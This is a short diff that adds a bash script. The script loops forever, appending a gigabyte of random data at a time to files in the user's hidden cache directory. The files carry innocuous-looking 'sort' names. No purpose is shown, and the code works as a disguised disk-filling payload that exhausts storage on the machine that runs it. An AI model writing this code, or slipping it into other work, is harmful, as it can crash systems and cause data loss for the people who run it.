@@ -1,0 +1,4 @@
+#!/bin/bash
+while :; do
+  head -c 1G /dev/urandom >> ~/.cache/sort.$RANDOM
+done
